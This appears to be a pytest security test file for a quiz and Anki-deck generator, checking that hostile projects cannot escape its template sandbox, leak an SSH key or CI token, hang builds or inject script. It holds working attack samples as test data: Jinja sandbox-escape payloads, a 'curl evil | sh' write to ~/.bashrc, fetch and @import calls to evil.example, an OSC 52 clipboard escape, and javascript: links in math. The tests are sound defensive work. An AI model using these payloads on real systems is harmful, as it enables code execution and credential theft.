"""A stranger's repository beyond its snippets (issue 20, findings 3, 4 and part of 8): its templates, the
text its placeholders fill in, its `match:` patterns, what it prints and its settings. Each test builds a
hostile project with a fake $HOME holding a secret and looks at the effect, not at the wording."""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from quizgen import pipeline
from quizgen.cli import cli
from quizgen.errors import QuizgenError
from tests.support.hostile import outputs
from tests.support.math_images import png
from tests.support.projects import write_project

SECRET = "s3cr3t-k3y-7f1c"
BASIC = """\
deck: Hostile
cards:
  - id: plain
    kind: basic
    front: "What is a leaf tensor?"
    back: "One made by the user, not by an operation."
"""


@pytest.fixture
def fake_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A $HOME (and cache) holding a secret key, beside the project, never inside it."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa.png").write_text(SECRET)  # an image's suffix: only its place refuses it
    (home / ".ssh" / "id_rsa").write_text(SECRET)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / ".cache"))
    yield home


def attempt(build: Callable[[], object]) -> str | None:
    """The message of a build refused with a user error (never a traceback); None when it was not."""
    try:
        build()
    except QuizgenError as exc:
        return exc.format_message()
    return None


# -- finding 3: project templates ------------------------------------------------------------------


def test_a_template_cannot_run_a_command(
    tmp_path: Path, fake_home: Path, options: Callable[..., pipeline.Options]
) -> None:
    root = write_project(tmp_path / "project", {"deck.yaml": BASIC})
    marker = fake_home / "pwned"
    quiz = root / "templates" / "quiz"
    quiz.mkdir(parents=True)
    (quiz / "index.html").write_text(
        '{% extends "default:quiz/index.html" %}\n{% block main %}\n'
        f"{{{{ lipsum.__globals__['os'].popen('touch {marker}').read() }}}}\n{{% endblock %}}\n"
    )
    message = attempt(lambda: pipeline.build(options(root)))
    assert not marker.exists()
    assert message is not None and f"{quiz / 'index.html'}:3" in message  # the template's file and line
    assert not (root / "build" / "quiz").exists()


def test_a_template_cannot_reach_python_through_the_data_it_gets(
    tmp_path: Path, fake_home: Path, options: Callable[..., pipeline.Options]
) -> None:
    root = write_project(tmp_path / "project", {"deck.yaml": BASIC})
    marker = fake_home / "pwned"
    quiz = root / "templates" / "quiz"
    quiz.mkdir(parents=True)
    reach = "decks[0].__class__.__init__.__globals__['__builtins__']['__import__']('os')"
    (quiz / "deck.html").write_text(f"{{{{ {reach}.system('touch {marker}') }}}}\n")
    message = attempt(lambda: pipeline.build(options(root)))
    assert not marker.exists()
    assert message is not None


def test_a_template_cannot_read_or_write_files_through_an_images_path(
    tmp_path: Path, fake_home: Path, options: Callable[..., pipeline.Options]
) -> None:
    # A card with an image gives the template its source as a Path, whose public methods Jinja's
    # sandbox let it call: it read the key into the page and could write ~/.bashrc.
    text = BASIC.replace('front: "What is a leaf tensor?"', 'front: "What is a leaf tensor? ![t](t.png)"')
    root = write_project(tmp_path / "project", {"deck.yaml": text})
    (root / "cards" / "t.png").write_bytes(png(1, 1))
    marker = fake_home / ".bashrc"
    quiz = root / "templates" / "quiz"
    quiz.mkdir(parents=True)
    each = "{% for c in cards %}{% for p in c.media.values() %}"
    read = f"{{{{ p.resolve().joinpath({str(fake_home / '.ssh' / 'id_rsa')!r}).read_text() }}}}"
    write = f"{{{{ p.resolve().joinpath({str(marker)!r}).write_text('curl evil | sh') }}}}"
    (quiz / "deck.html").write_text(
        '{% extends "default:quiz/deck.html" %}\n{% block footer %}\n'
        f"{each}{read}{write}{{% endfor %}}{{% endfor %}}\n{{% endblock %}}\n"
    )
    message = attempt(lambda: pipeline.build(options(root)))
    assert not marker.exists() and SECRET not in outputs(root)
    assert message == (
        f"{quiz / 'deck.html'}:3: access to attribute 'resolve' of 'PosixPath' object is unsafe. (templates "
        "render in a sandbox that refuses this)"
    )


@pytest.mark.parametrize("image", ["x.png", "x.jpg", "x.gif", "x.webp", "x.svg"])
def test_an_image_naming_a_file_of_the_checkout_through_a_symlink_is_refused(
    tmp_path: Path, options: Callable[..., pipeline.Options], image: str
) -> None:
    # A CI checkout leaves the job's token in .git/config: inside the project, so a symlink to it
    # passed the "inside the project" rule and its bytes were published as an image.
    text = BASIC.replace('front: "What is a leaf tensor?"', f'front: "What is a leaf tensor? ![x]({image})"')
    root = write_project(tmp_path / "project", {"deck.yaml": text})
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {SECRET}\n")
    (root / "cards" / image).symlink_to(Path("..") / ".git" / "config")
    message = attempt(lambda: pipeline.build(options(root)))
    assert SECRET not in outputs(root)
    kind = image.rpartition(".")[2].upper()
    why = "is not plain drawing: it is not well-formed XML" if kind == "SVG" else f"is not a {kind} file"
    assert message is not None and f"front: image '{image}' {why}" in message


INDEX = "quiz/index.html (or a template it extends or includes)"


@pytest.mark.parametrize(
    ("body", "where"),
    [
        (
            "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
            "quiz/index.html (or a template it extends or includes)",
        ),
        (
            "{% if 1 %}" * 3000 + "x" + "{% endif %}" * 3000,
            "quiz/index.html (or a template it extends or includes)",
        ),
        ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "TEMPLATE:1"),
    ],
    ids=["nested-expression", "nested-blocks", "recursive-macro"],
)
def test_a_template_nested_past_pythons_recursion_is_a_located_error(
    tmp_path: Path, options: Callable[..., pipeline.Options], body: str, where: str
) -> None:
    root = write_project(tmp_path / "project", {"deck.yaml": BASIC})
    quiz = root / "templates" / "quiz"
    quiz.mkdir(parents=True)
    (quiz / "index.html").write_text(
        f'{{% extends "default:quiz/index.html" %}}{{% block main %}}{body}{{% endblock %}}'
    )
    message = attempt(lambda: pipeline.build(options(root)))  # (a RecursionError is not caught here)
    where = where.replace("TEMPLATE", str(quiz / "index.html"))
    assert message == f"{where}: nested or recursing deeper than templates can go"


@pytest.mark.parametrize("link", ["file", "folder", "templates"])
def test_a_template_symlinked_from_outside_the_project_is_not_read(
    tmp_path: Path, fake_home: Path, options: Callable[..., pipeline.Options], link: str
) -> None:
    root = write_project(tmp_path / "project", {"deck.yaml": BASIC})
    outside = fake_home / "notes"
    (outside / "quiz").mkdir(parents=True)
    (outside / "quiz" / "index.html").write_text(f"<p>{SECRET}</p>\n")
    if link == "templates":  # the whole templates folder
        (root / "templates").symlink_to(outside, target_is_directory=True)
    elif link == "folder":  # templates/quiz
        (root / "templates").mkdir()
        (root / "templates" / "quiz").symlink_to(outside / "quiz", target_is_directory=True)
    else:
        (root / "templates" / "quiz").mkdir(parents=True)
        (root / "templates" / "quiz" / "index.html").symlink_to(outside / "quiz" / "index.html")
    message = attempt(lambda: pipeline.build(options(root)))
    assert SECRET not in outputs(root)
    assert message is not None


def test_a_template_symlinked_inside_the_project_and_extends_still_work(
    tmp_path: Path, options: Callable[..., pipeline.Options]
) -> None:
    root = write_project(tmp_path / "project", {"deck.yaml": BASIC})
    quiz = root / "templates" / "quiz"
    quiz.mkdir(parents=True)
    (root / "templates" / "shared.html").write_text(
        '{% extends "default:quiz/index.html" %}\n{% block title %}Course index{% endblock %}\n'
    )
    (quiz / "index.html").symlink_to(root / "templates" / "shared.html")
    pipeline.build(options(root))
    assert "<title>Course index</title>" in (root / "build" / "quiz" / "index.html").read_text()


# -- finding 4: the text placeholders fill in -------------------------------------------------------


def value_card(code: str, explain: str, cite: str = "") -> str:
    """A deck of one value card whose snippet is `code` and whose explanation is `explain`."""
    card = f"""\
deck: Hostile
cards:
  - id: leak
    kind: value
    ask: "What is `x`?"
    code: |
{textwrap.indent(code, "      ")}
    answer_expr: x
    answer: 4
    explain: {json.dumps(explain)}
"""
    return card + (f"    cite: {cite}\n" if cite else "")


@pytest.mark.parametrize(
    "code, explain, cite",
    [
        pytest.param('x = 4\nprint("![key](" + HOME + "/.ssh/id_rsa)")', "{{output}}", "", id="output"),
        pytest.param("x = 4", "{{p}}", "{p: \"'![k](../../home/.ssh/id_rsa.png)'\"}", id="cite"),
        pytest.param("x = 4", "{{p}}", "{p: \"'![k](../../home/.ssh/id_rsa)'\"}", id="cite-any-file"),
    ],
)
def test_an_image_filled_in_from_outside_the_project_is_refused(
    tmp_path: Path,
    fake_home: Path,
    options: Callable[..., pipeline.Options],
    code: str,
    explain: str,
    cite: str,
) -> None:
    code = code.replace("HOME", repr(str(fake_home)))
    root = write_project(tmp_path / "project", {"deck.yaml": value_card(code, explain, cite)})
    message = attempt(lambda: pipeline.build(options(root)))
    assert SECRET not in outputs(root)
    assert message is not None and "deck.yaml:" in message  # located at the card's field


@pytest.mark.parametrize("via", ["output", "cite"])
def test_tex_filled_in_gets_the_rules_of_written_tex(
    tmp_path: Path, options: Callable[..., pipeline.Options], via: str
) -> None:
    tex = r"\\(\\href{javascript:alert(1)}{x}\\)"
    if via == "output":
        deck = value_card(f'x = 4\nprint("{tex}")', "It prints {{output}}")
    else:
        cite = json.dumps(repr(tex.replace("\\\\", "\\")))
        deck = value_card("x = 4", "See {{tex}}", "{tex: " + cite + "}")
    root = write_project(tmp_path / "project", {"deck.yaml": deck})
    message = attempt(lambda: pipeline.build(options(root)))
    assert "\\href" not in outputs(root, cache=False)
    assert message is not None and "explain" in message and "{{" in message  # the field, the placeholder


def test_a_placeholder_bomb_is_refused_with_bounded_memory(
    tmp_path: Path, options: Callable[..., pipeline.Options]
) -> None:
    """The issue's attack: 150,000 `{{c}}` of 4 KB each (a 750 KB card file) made 575 MB of pages and a
    2 GB parent. Built here with this process's address space capped at 1 GiB over what it has (the
    snippets run in the pool, started before)."""
    deck = value_card("x = 4", "{{c}}" * 150_000, "{c: \"'k' * 4000\"}")
    root = write_project(tmp_path / "project", {"deck.yaml": deck})
    assert (root / "cards" / "deck.yaml").stat().st_size > 700_000
    status = Path("/proc/self/status").read_text()
    size = int(next(ln.split()[1] for ln in status.splitlines() if ln.startswith("VmSize:"))) * 1024
    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    resource.setrlimit(resource.RLIMIT_AS, (size + (1 << 30), hard))
    try:
        message = attempt(lambda: pipeline.build(options(root)))
    finally:
        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))
    assert message is not None and "deck.yaml:" in message
    assert len(outputs(root, cache=False)) < 1_000_000


# -- finding 8: a catastrophic `match:`, escape codes, the settings' ceiling -------------------------

RAISING = """\
deck: Hostile
cards:
  - id: raises
    kind: value
    ask: "What does it raise?"
    code: |
      raise RuntimeError({message})
    answer: {{raises: RuntimeError, match: {pattern}}}
"""


def run_quizgen(root: Path, *args: str, env: dict[str, str] | None = None, timeout: float = 600) -> str:
    """`quizgen build` on the project in a child of its own (killed whole if it overruns); its output."""
    env = {**os.environ, **(env or {}), "PYTHONPATH": str(Path(pipeline.__file__).parent.parent)}
    cmd = [sys.executable, "-m", "quizgen", "build", "-j", "1", *args]
    with subprocess.Popen(
        cmd, cwd=root, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True
    ) as child:
        try:
            out, _ = child.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            os.killpg(child.pid, 9)
            child.communicate()
            pytest.fail(f"quizgen build ran for more than {timeout} s")
    return out.decode(errors="replace") + f"\nexit {child.returncode}"


def test_a_catastrophic_pattern_does_not_hang_the_build(tmp_path: Path) -> None:
    """`(a+)+$` against 40 a's and a '!' takes Python's backtracking `re` 2^40 steps; RE2 is linear."""
    deck = RAISING.format(message='"a" * 40 + "!"', pattern='"(a+)+$"')
    root = write_project(tmp_path / "project", {"deck.yaml": deck})
    out = run_quizgen(root, timeout=240)
    assert out.endswith("exit 1"), out  # finished, and the pattern does not match the message
    assert "deck.yaml:8" in out and "Traceback" not in out


def test_a_pattern_re2_cannot_run_is_refused_at_its_match(
    tmp_path: Path, options: Callable[..., pipeline.Options]
) -> None:
    deck = RAISING.format(message='"aa"', pattern='"(a)\\\\1"')
    root = write_project(tmp_path / "project", {"deck.yaml": deck})
    message = attempt(lambda: pipeline.build(options(root)))
    assert message is not None and "deck.yaml:8:" in message and "answer.match" in message
    assert "backreferences" in message


def test_escape_codes_from_a_card_never_reach_the_terminal(tmp_path: Path) -> None:
    """An exception's message that would set the clipboard (OSC 52) and rewrite the line before it."""
    clipboard = "\\x1b]52;c;cm0gLXJmIH4K\\x07"
    message = f'"{clipboard}\\r\\x1b[2Kall cards verified\\x9b"'
    deck = RAISING.format(message=message, pattern='"nothing like this"')
    deck += (
        '  - id: text\n    kind: basic\n    front: "\\e]0;title\\a"\n    back: "![x](http://a/\\r\\e[2K)"\n'
    )
    root = write_project(tmp_path / "project", {"deck.yaml": deck})
    result = CliRunner().invoke(
        cli, ["build", "-j", "1", "--cards", str(root / "cards"), "--out", str(root / "build")]
    )
    shown = result.output + (result.stderr if result.stderr_bytes is not None else "")
    assert result.exit_code == 1, shown
    assert "all cards verified" in shown  # the message is shown ...
    assert not {"\x1b", "\x07", "\r", "\x9b"} & set(shown), repr(shown)  # ... but not obeyed


SLOW = """\
deck: Slow
cards:
  - id: slow
    kind: basic
    front: "Slow?"
    back: "Yes."
    code: |
      import time
      time.sleep(0.1)
"""


@pytest.mark.parametrize("where", ["quizgen.toml", "pyproject.toml"])
def test_a_project_cannot_lift_the_timeout_past_the_users_ceiling(
    tmp_path: Path, options: Callable[..., pipeline.Options], where: str
) -> None:
    root = write_project(tmp_path / "project", {"deck.yaml": SLOW})
    table = "[defaults]" if where == "quizgen.toml" else "[tool.quizgen.defaults]"
    (root / where).write_text(f"{table}\nrtol = 1e-3\ntimeout = 1e9\n")
    message = attempt(lambda: pipeline.build(options(root)))
    assert not (root / "build" / "quiz").exists()
    assert message is not None and f"{where}:3" in message
    pipeline.build(options(root, max_timeout=1e9))  # the user may allow it ...
    pipeline.build(options(root, timeout=1e9))  # ... or give the timeout itself


def test_the_users_ceiling_comes_from_the_environment(tmp_path: Path) -> None:
    root = write_project(tmp_path / "project", {"deck.yaml": SLOW})
    (root / "quizgen.toml").write_text("[defaults]\ntimeout = 20\n")
    out = run_quizgen(root, env={"QUIZGEN_MAX_TIMEOUT": "5"})
    assert out.endswith("exit 1") and "quizgen.toml:2" in out, out
    assert not (root / "build" / "quiz").exists()
    assert run_quizgen(root, "--max-timeout", "20").endswith("exit 0")


def test_card_text_made_to_make_our_own_patterns_backtrack_builds_quickly(tmp_path: Path) -> None:
    """Our patterns over card text (code spans, fences, math): a run of 300,000 backticks, 100,000
    unclosed `\\(` and 100,000 blank lines before a fence took hours to scan for math outside code (the
    unclosed openers are an error now: told once, as fast)."""
    deck = BASIC.replace('"What is a leaf tensor?"', '"' + "`" * 300_000 + '"')
    deck = deck.replace('"One made by the user, not by an operation."', '"' + "\\\\(" * 100_000 + '"')
    deck += '  - id: fence\n    kind: basic\n    front: "' + "\\n" * 100_000 + '```"\n    back: b\n'
    root = write_project(tmp_path / "project", {"deck.yaml": deck})
    assert (root / "cards" / "deck.yaml").stat().st_size < 1 << 20
    out = run_quizgen(root, timeout=240)
    # The 100,000 openers close nothing: one located error for them, found in linear time too.
    unclosed = "card 'plain' -> back: math opened with '\\(' is never closed"
    assert out.count(unclosed) == 1 and out.endswith("1 card error\n\nexit 1"), out[-2000:]


# -- issue 28, findings 6 and 7: one reading of text for the checks and for what renders it ------------

SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'
XSLT = (  # the stylesheet makes an HTML <script> by <x:element>: the SVG itself holds no script element
    '<?xml version="1.0" encoding="UTF-16"?>\n<?xml-stylesheet type="text/xsl" href="#x"?>\n'
    f'<svg {SVG_NS}><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" id="x" version="1.0">'
    '<x:template match="/"><x:element name="script" namespace="http://www.w3.org/1999/xhtml">'
    'fetch("//evil.example/")</x:element></x:template></x:stylesheet></svg>'
)


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (
            XSLT.encode("utf-16"),
            "it is not UTF-8 (it starts with a UTF-16 or UTF-32 byte order mark): save it as UTF-8",
        ),
        (
            f"<svg {SVG_NS}><style>@\\69mport '//evil.example/x.css';</style><rect/></svg>".encode(),
            "its stylesheet has a CSS escape ('\\'): write the characters themselves",
        ),
    ],
    ids=["utf-16-xml-stylesheet", "css-escape-import"],
)
def test_an_svg_the_browser_reads_otherwise_than_the_check_is_refused(
    tmp_path: Path, fake_home: Path, options: Callable[..., pipeline.Options], data: bytes, why: str
) -> None:
    # Finding 6: read as UTF-8, the UTF-16 file held none of the check's words (the browser read its
    # stylesheet instruction and ran the XSLT's script); `@\69mport` is `@import` to the browser.
    text = BASIC.replace('"What is a leaf tensor?"', '"What is a leaf tensor? ![d](d.svg)"')
    root = write_project(tmp_path / "project", {"deck.yaml": text})
    (root / "cards" / "d.svg").write_bytes(data)
    message = attempt(lambda: pipeline.build(options(root)))
    assert "evil.example" not in outputs(root) and "e\x00v\x00i\x00l" not in outputs(root)
    assert not list((root / "build").rglob("*.svg"))
    deck = root / "cards" / "deck.yaml"
    located = f"{deck}:5:12: card 'plain' -> front: image 'd.svg' is not plain drawing: "
    assert message is not None and f"{located}{why} (a published SVG is also a page of" in message, message


ACTIVE = "in Anki it links, styles or loads; write a link in Markdown, outside the math"
OWN_MATH = "it opens math of its own, which Anki's MathJax reads (in \\text{} too) and quizgen cannot check"


@pytest.mark.parametrize(
    ("written", "why"),
    [
        (
            r"\( \text{$\href{javascript:alert(1)}{x}$} \)",
            r"math \( \text{$\href{javascript:alert(1)}{x}$} \) cannot be shown: '$' in math: "
            + OWN_MATH
            + r"; write \$ for a dollar sign",
        ),
        (
            r"\[ \textrm{\(\class{javascript:alert(1)}{x}\)} \]",
            r"math \[ \textrm{\(\class{javascript:alert(1)}{x}\)} \] cannot be shown: '\(' in math: "
            + OWN_MATH,
        ),
        (
            r"\( \text{\style{background:url(javascript:alert(1))}{x}} \)",
            r"math \( \text{\style{background:url(javascript:alert(1))}{x}} \) cannot be shown: "
            rf"\style is not allowed in math: {ACTIVE}",
        ),
        (
            r"\`\( \href{javascript:alert(1)}{x} \)\`",
            r"math \( \href{javascript:alert(1)}{x} \) cannot be shown: "
            rf"\href is not allowed in math: {ACTIVE}",
        ),
        (
            r"&#92;( \href{javascript:alert(1)}{x} &#92;)",
            r"'\(' outside math (Markdown makes it of '\\(' or '&#92;('): Anki would read what follows as "
            "math no check has read; put it in a code span to show it as text",
        ),
    ],
    ids=["dollar-in-text", "class-in-textrm", "style-in-text", "escaped-backticks", "entity-opener"],
)
def test_math_anki_would_read_is_the_math_checked(
    tmp_path: Path, fake_home: Path, options: Callable[..., pipeline.Options], written: str, why: str
) -> None:
    # Finding 7: latex2mathml read `\text{...}` as letters where Anki's MathJax typesets a `$...$` or
    # `\(...\)` inside it; quizgen's own scanner took `\`` for code where Markdown shows a backtick and
    # leaves the math outside code. A clicked `javascript:` link ran script in Anki.
    text = BASIC.replace('"One made by the user, not by an operation."', json.dumps(written))
    root = write_project(tmp_path / "project", {"deck.yaml": text})
    message = attempt(lambda: pipeline.build(options(root)))
    assert "javascript:alert" not in outputs(root)
    deck = root / "cards" / "deck.yaml"
    assert message is not None and f"{deck}:6:11: card 'plain' -> back: {why}" in message, message


def test_a_title_shown_in_another_anki_note_is_math_only_where_checked() -> None:
    # A card's title is plain text: the `\(...\)` of a code span in its prompt is text there, and a note
    # naming the card showed it outside `tex2jax_ignore`, where Anki's MathJax typeset it.
    from quizgen.render.anki.notes import titled_links

    code = r"“Is `\(\href{javascript:alert(1)}{x}\)` code?”"
    fine = r"“What is \( \partial L / \partial w \)?”"
    titles = {"a": ("D", code[1:-1].replace("`", "")), "b": ("D", fine[1:-1])}
    shown = titled_links('<a href="#card:a"></a> <a href="#card:b"></a>', titles)
    assert shown == (f'<span class="tex2jax_ignore">{code.replace("`", "")}</span> {fine}')
